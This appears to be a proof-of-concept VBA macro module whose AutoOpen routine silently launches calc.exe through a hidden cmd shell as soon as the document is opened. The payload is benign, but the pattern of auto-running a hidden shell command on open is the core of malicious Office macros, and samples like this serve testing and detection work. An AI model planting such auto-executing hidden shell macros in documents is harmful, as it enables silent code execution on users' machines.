Attribute VB_Name = "Module1"
Sub AutoOpen()
    Shell "cmd /c calc.exe", vbHide
End Sub
